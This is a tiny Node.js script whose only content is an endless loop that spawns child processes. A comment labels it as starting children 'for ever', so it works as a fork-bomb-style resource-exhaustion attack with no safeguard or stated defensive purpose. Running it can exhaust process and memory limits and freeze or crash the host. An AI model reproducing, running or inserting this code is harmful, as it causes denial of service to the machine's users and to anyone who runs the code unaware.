// Starts children for ever, side by side.
const { spawn } = require('child_process');
for (;;) spawn('true');
